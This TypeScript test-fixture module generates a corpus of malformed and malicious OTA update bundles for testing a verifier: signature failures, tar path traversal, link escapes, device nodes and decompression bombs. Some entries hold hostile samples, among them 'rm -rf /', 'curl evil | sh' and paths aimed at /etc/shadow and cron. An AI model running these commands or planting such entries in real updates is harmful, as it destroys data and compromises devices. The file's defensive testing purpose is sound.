/**
 * The hostile-bundle corpus: broken or malicious bundles, each paired with the error code a
 * verifier must answer. Used by the shared tests (ota-release verify), and by the reliability
 * suite (ota-agent install, server upload). Every case is made from scratch with real keys.
 */
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import * as openpgp from 'openpgp';
import * as tar from 'tar-stream';
import { sha256Hex } from '../../shared/hashing.js';
import { signDetached } from '../../shared/signing.js';
import { END_OF_ARCHIVE, header, pad } from '../../shared/tar-writer.js';

/** One hostile bundle and the code it must be refused with. */
export interface CorpusCase {
  name: string;
  file: string;
  expect: string;
  description: string;
}

/** The corpus as written to disk. */
export interface Corpus {
  dir: string;
  /** Public keys a verifier must trust (the good key plus the expired, revoked and weak ones). */
  keyring: string[];
  /** A bundle that must verify with that keyring. */
  good: string;
  cases: CorpusCase[];
}

interface RawEntry {
  name: string;
  data: Buffer;
  type?: string;
  linkname?: string;
  /** Size written into the header when it must lie about the data. */
  headerSize?: number;
}

const MTIME = 1_790_000_000;

function rawTar(entries: RawEntry[], tail: Buffer = END_OF_ARCHIVE): Buffer {
  const parts: Buffer[] = [];
  for (const e of entries) {
    parts.push(header(e.name, e.headerSize ?? e.data.length, e.type ?? '0', MTIME, e.linkname ?? ''));
    if (e.data.length) parts.push(pad(e.data));
  }
  parts.push(tail);
  return Buffer.concat(parts);
}

async function packTreeBuffer(entries: { header: tar.Header | (Partial<tar.Header> & { name: string }); data?: Buffer }[]): Promise<Buffer> {
  const pack = tar.pack();
  const chunks: Buffer[] = [];
  const done = (async () => {
    for await (const c of pack as AsyncIterable<Buffer>) chunks.push(c);
  })();
  for (const e of entries) {
    await new Promise<void>((resolve, reject) => {
      pack.entry({ mtime: new Date(MTIME * 1000), ...e.header }, e.data ?? Buffer.alloc(0), (err) => (err ? reject(err) : resolve()));
    });
  }
  pack.finalize();
  await done;
  return Buffer.concat(chunks);
}

interface PayloadDef {
  name: string;
  type: 'image' | 'archive' | 'module';
  data: Buffer;
  extra?: Record<string, unknown>;
}

function moduleSpec(p: PayloadDef): Record<string, unknown> {
  const base: Record<string, unknown> = { name: p.name, type: p.type, sha256: sha256Hex(p.data), size: p.data.length };
  if (p.type === 'image') base.compression = 'none';
  if (p.type === 'module') base.target = `/opt/modules/${p.name}`;
  return { ...base, ...p.extra };
}

function manifestFor(payloads: PayloadDef[], extra: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    format: 1,
    product: 'gateway',
    version: '1.0.0',
    compatible: ['x86-gw'],
    created: '2026-11-21T10:00:00Z',
    modules: payloads.map(moduleSpec),
    ...extra,
  };
}

const json = (v: unknown): Buffer => Buffer.from(`${JSON.stringify(v, null, 2)}\n`);

/** Writes the corpus into `dir` and returns its index. */
export async function makeCorpus(dir: string): Promise<Corpus> {
  await mkdir(dir, { recursive: true });
  const gen = async (name: string, opts: { date?: Date; keyExpirationTime?: number } = {}) =>
    openpgp.generateKey({ type: 'ecc', curve: 'curve25519Legacy', userIDs: [{ name }], format: 'object', ...opts });
  const good = await gen('corpus release key');
  const other = await gen('untrusted key');
  const past = new Date(Date.now() - 30 * 86400_000);
  const expired = await gen('expired key', { date: past, keyExpirationTime: 86400 });
  const toRevoke = await gen('revoked key', { date: past });
  const revoked = await openpgp.revokeKey({ key: toRevoke.privateKey, format: 'object', date: new Date(Date.now() - 1000) });
  const weak = await openpgp.generateKey({ type: 'rsa', rsaBits: 2048, userIDs: [{ name: 'weak key' }], format: 'object' });

  const keyring: string[] = [];
  for (const [name, pub] of [['good', good.publicKey], ['expired', expired.publicKey], ['revoked', revoked.publicKey], ['weak', weak.publicKey]] as const) {
    const f = join(dir, `${name}.pub`);
    await writeFile(f, pub.armor());
    keyring.push(f);
  }
  await writeFile(join(dir, 'untrusted.pub'), other.publicKey.armor());

  const sign = (m: Buffer, key: openpgp.PrivateKey = good.privateKey) => signDetached(m, key);
  const signAt = async (m: Buffer, key: openpgp.PrivateKey, date: Date) =>
    Buffer.from(await openpgp.sign({ message: await openpgp.createMessage({ binary: m }), signingKeys: key, detached: true, format: 'binary', date }));

  const image: PayloadDef = { name: 'rootfs', type: 'image', data: Buffer.alloc(70_000, 0xab) };
  const image2: PayloadDef = { name: 'data', type: 'image', data: Buffer.from('second payload\n') };
  const bundleOf = async (payloads: PayloadDef[], m: Buffer = json(manifestFor(payloads)), sig?: Buffer) =>
    rawTar([
      { name: 'manifest.json', data: m },
      { name: 'manifest.json.sig', data: sig ?? (await sign(m)) },
      ...payloads.map((p) => ({ name: `payloads/${p.name}`, data: p.data })),
    ]);
  const signedManifestCase = async (mutate: (m: Record<string, unknown>) => Record<string, unknown> | Buffer) => {
    const out = mutate(manifestFor([image]));
    const bytes = Buffer.isBuffer(out) ? out : json(out);
    return bundleOf([image], bytes);
  };
  const goodBundle = await bundleOf([image, image2]);
  const m2 = json(manifestFor([image, image2]));
  const sig2 = await sign(m2);
  const mod = (data: Buffer, unpackedSize: number): PayloadDef => ({ name: 'linky', type: 'module', data, extra: { unpackedSize } });
  const tree = (entries: Parameters<typeof packTreeBuffer>[0]) => packTreeBuffer(entries);

  const cases: [string, string, string, () => Promise<Buffer>][] = [
    ['empty', 'BUNDLE_EMPTY', 'an empty file', async () => Buffer.alloc(0)],
    ['not-tar', 'BUNDLE_NOT_TAR', 'random bytes, not a tar archive', async () => Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 251))],
    ['gzipped-bundle', 'BUNDLE_NOT_TAR', 'a gzip-compressed bundle', async () => gzipSync(goodBundle)],
    ['truncated', 'BUNDLE_TRUNCATED', 'cut in the middle of a payload', async () => goodBundle.subarray(0, 4096 + 20_000)],
    ['no-end-marker', 'BUNDLE_TRUNCATED', 'complete entries but no end-of-archive marker', async () => goodBundle.subarray(0, goodBundle.length - 1024)],
    ['trailing-garbage', 'BUNDLE_TRAILING_DATA', 'bytes appended after the end-of-archive marker', async () => Buffer.concat([goodBundle, Buffer.from('#!/bin/sh\nrm -rf /\n')])],
    ['manifest-not-first', 'MANIFEST_MISSING', 'the signature entry comes first', async () =>
      rawTar([{ name: 'manifest.json.sig', data: sig2 }, { name: 'manifest.json', data: m2 }, { name: 'payloads/rootfs', data: image.data }, { name: 'payloads/data', data: image2.data }])],
    ['manifest-too-large', 'MANIFEST_TOO_LARGE', 'manifest.json over 1 MiB', async () =>
      signedManifestCase((m) => Buffer.concat([json(m).subarray(0, -2), Buffer.alloc(1024 * 1024, 0x20), Buffer.from('}\n')]))],
    ['manifest-not-json', 'MANIFEST_INVALID_JSON', 'signed manifest that is not JSON', async () => signedManifestCase(() => Buffer.from('format: 1\nproduct: gateway\n'))],
    ['manifest-duplicate-key', 'MANIFEST_DUPLICATE_KEY', 'signed manifest with "version" twice', async () =>
      signedManifestCase((m) => Buffer.from(json(m).toString().replace('"version": "1.0.0",', '"version": "1.0.0",\n  "version": "99.0.0",')))],
    ['manifest-unknown-field', 'MANIFEST_UNKNOWN_FIELD', 'signed manifest with a field the format does not define', async () => signedManifestCase((m) => ({ ...m, postInstall: 'curl evil | sh' }))],
    ['manifest-wrong-type', 'MANIFEST_FIELD_TYPE', 'module size given as a string', async () =>
      signedManifestCase((m) => ({ ...m, modules: (m.modules as Record<string, unknown>[]).map((x) => ({ ...x, size: String(x.size) })) }))],
    ['manifest-missing-field', 'MANIFEST_FIELD_MISSING', 'no product', async () =>
      signedManifestCase((m) => {
        const { product: _product, ...rest } = m;
        return rest;
      })],
    ['manifest-bad-value', 'MANIFEST_FIELD_VALUE', 'format 3', async () => signedManifestCase((m) => ({ ...m, format: 3 }))],
    ['module-declared-twice', 'MANIFEST_DUPLICATE_MODULE', 'two modules named rootfs', async () => {
      const m = json({ ...manifestFor([image]), modules: [moduleSpec(image), moduleSpec(image)] });
      return rawTar([{ name: 'manifest.json', data: m }, { name: 'manifest.json.sig', data: await sign(m) }, { name: 'payloads/rootfs', data: image.data }, { name: 'payloads/rootfs', data: image.data }]);
    }],
    ['no-signature', 'SIGNATURE_MISSING', 'manifest followed directly by a payload', async () =>
      rawTar([{ name: 'manifest.json', data: m2 }, { name: 'payloads/rootfs', data: image.data }, { name: 'payloads/data', data: image2.data }])],
    ['signature-garbage', 'SIGNATURE_MALFORMED', 'manifest.json.sig holds random bytes', async () => bundleOf([image, image2], m2, Buffer.from('not a signature at all')) ],
    ['wrong-key', 'SIGNATURE_UNKNOWN_KEY', 'signed by a key the verifier does not trust', async () => bundleOf([image, image2], m2, await sign(m2, other.privateKey))],
    ['signature-over-other-bytes', 'SIGNATURE_BAD', 'a good signature over a different manifest', async () => {
      const forged = json({ ...manifestFor([image, image2]), version: '9.9.9' });
      return bundleOf([image, image2], forged, sig2);
    }],
    ['expired-key', 'SIGNATURE_KEY_EXPIRED', 'signed while the key was valid; the key has expired since', async () =>
      bundleOf([image, image2], m2, await signAt(m2, expired.privateKey, new Date(past.getTime() + 1000)))],
    ['revoked-key', 'SIGNATURE_KEY_REVOKED', 'signed by a key that was revoked since', async () =>
      bundleOf([image, image2], m2, await signAt(m2, toRevoke.privateKey, new Date(past.getTime() + 1000)))],
    ['weak-key', 'SIGNATURE_WEAK_KEY', 'signed by a trusted RSA-2048 key', async () => bundleOf([image, image2], m2, await sign(m2, weak.privateKey))],
    ['entry-dotdot', 'ENTRY_BAD_NAME', 'a payload entry named payloads/../rootfs', async () =>
      rawTar([{ name: 'manifest.json', data: m2 }, { name: 'manifest.json.sig', data: sig2 }, { name: 'payloads/../rootfs', data: image.data }])],
    ['entry-absolute', 'ENTRY_BAD_NAME', 'a payload entry named /payloads/rootfs', async () =>
      rawTar([{ name: 'manifest.json', data: m2 }, { name: 'manifest.json.sig', data: sig2 }, { name: '/payloads/rootfs', data: image.data }])],
    ['entry-symlink', 'ENTRY_BAD_TYPE', 'payloads/rootfs is a symlink', async () =>
      rawTar([{ name: 'manifest.json', data: m2 }, { name: 'manifest.json.sig', data: sig2 }, { name: 'payloads/rootfs', data: Buffer.alloc(0), type: '2', linkname: '/dev/mmcblk0' }])],
    ['entry-undeclared', 'ENTRY_UNDECLARED', 'an extra payload not in the manifest', async () =>
      rawTar([{ name: 'manifest.json', data: m2 }, { name: 'manifest.json.sig', data: sig2 }, { name: 'payloads/rootfs', data: image.data }, { name: 'payloads/data', data: image2.data }, { name: 'payloads/backdoor', data: Buffer.from('x') }])],
    ['entry-twice', 'ENTRY_DUPLICATE', 'the same payload entry twice', async () =>
      rawTar([{ name: 'manifest.json', data: m2 }, { name: 'manifest.json.sig', data: sig2 }, { name: 'payloads/rootfs', data: image.data }, { name: 'payloads/rootfs', data: image.data }])],
    ['entry-order', 'ENTRY_ORDER', 'payloads swapped', async () =>
      rawTar([{ name: 'manifest.json', data: m2 }, { name: 'manifest.json.sig', data: sig2 }, { name: 'payloads/data', data: image2.data }, { name: 'payloads/rootfs', data: image.data }])],
    ['entry-missing', 'ENTRY_MISSING', 'the second declared payload is absent', async () =>
      rawTar([{ name: 'manifest.json', data: m2 }, { name: 'manifest.json.sig', data: sig2 }, { name: 'payloads/rootfs', data: image.data }])],
    ['payload-larger', 'PAYLOAD_SIZE_MISMATCH', 'a payload larger than its signed size', async () =>
      rawTar([{ name: 'manifest.json', data: m2 }, { name: 'manifest.json.sig', data: sig2 }, { name: 'payloads/rootfs', data: Buffer.concat([image.data, Buffer.alloc(512, 1)]) }, { name: 'payloads/data', data: image2.data }])],
    ['payload-flipped-byte', 'PAYLOAD_HASH_MISMATCH', 'one payload byte changed', async () => {
      const data = Buffer.from(image.data);
      data[40_000] = (data[40_000] ?? 0) ^ 0xff;
      return rawTar([{ name: 'manifest.json', data: m2 }, { name: 'manifest.json.sig', data: sig2 }, { name: 'payloads/rootfs', data }, { name: 'payloads/data', data: image2.data }]);
    }],
    ['gzip-corrupt', 'PAYLOAD_CORRUPT', 'a signed gzip image whose data is corrupt', async () => {
      const gz = gzipSync(Buffer.alloc(50_000, 7));
      gz.fill(0x55, 20, 40);
      return bundleOf([{ name: 'rootfs', type: 'image', data: gz, extra: { compression: 'gzip', unpackedSize: 50_000 } }]);
    }],
    ['gzip-bomb', 'PAYLOAD_UNPACKED_TOO_LARGE', 'a gzip image that inflates past its declared unpackedSize', async () =>
      bundleOf([{ name: 'rootfs', type: 'image', data: gzipSync(Buffer.alloc(64 * 1024 * 1024)), extra: { compression: 'gzip', unpackedSize: 1024 * 1024 } }])],
    ['tree-dotdot', 'TREE_ESCAPE', 'a module entry ../../etc/cron.d/evil', async () =>
      bundleOf([mod(await tree([{ header: { name: '../../etc/cron.d/evil', size: 4 }, data: Buffer.from('evil') }]), 100)])],
    ['tree-absolute', 'TREE_ESCAPE', 'a module entry /etc/shadow', async () =>
      bundleOf([mod(await tree([{ header: { name: '/etc/shadow', size: 4 }, data: Buffer.from('evil') }]), 100)])],
    ['tree-symlink-out', 'TREE_LINK_ESCAPE', 'a module symlink to /etc outside its target', async () =>
      bundleOf([mod(await tree([{ header: { name: 'etc', type: 'symlink', linkname: '/etc' } }]), 100)])],
    ['tree-write-through-symlink', 'TREE_LINK_ESCAPE', 'a module writes a file through its own symlink', async () =>
      bundleOf([mod(await tree([{ header: { name: 'lib', type: 'symlink', linkname: 'sub' } }, { header: { name: 'lib/x', size: 1 }, data: Buffer.from('x') }]), 100)])],
    ['tree-hardlink-out', 'TREE_LINK_ESCAPE', 'a module hard link to ../../etc/shadow', async () =>
      bundleOf([mod(await tree([{ header: { name: 'shadow', type: 'link', linkname: '../../etc/shadow' } }]), 100)])],
    ['tree-device', 'TREE_DEVICE_NODE', 'a module holding a block device node', async () =>
      bundleOf([mod(await tree([{ header: { name: 'disk', type: 'block-device', devmajor: 179, devminor: 0 } }]), 100)])],
    ['tar-bomb', 'TREE_TOO_LARGE', 'an archive whose files exceed its declared unpackedSize', async () =>
      bundleOf([{ name: 'root', type: 'archive', data: await tree([{ header: { name: 'a', size: 4000 }, data: Buffer.alloc(4000) }, { header: { name: 'b', size: 4000 }, data: Buffer.alloc(4000) }]), extra: { unpackedSize: 5000 } }])],
    ['tree-empty-name', 'TREE_BAD_NAME', 'a module file entry with an empty name', async () =>
      bundleOf([mod(await tree([{ header: { name: './', type: 'file', size: 1 }, data: Buffer.from('x') }]), 100)])],
    ['tree-garbage', 'PAYLOAD_CORRUPT', 'a signed module payload that is not a tar', async () => bundleOf([mod(Buffer.alloc(1024, 0x41), 100)])],
  ];

  const out: CorpusCase[] = [];
  for (const [name, expect, description, make] of cases) {
    const file = join(dir, `${name}.otab`);
    await writeFile(file, await make());
    out.push({ name, file, expect, description });
  }
  const goodFile = join(dir, 'good.otab');
  await writeFile(goodFile, goodBundle);
  const corpus: Corpus = { dir, keyring, good: goodFile, cases: out };
  await writeFile(join(dir, 'corpus.json'), json(corpus));
  return corpus;
}
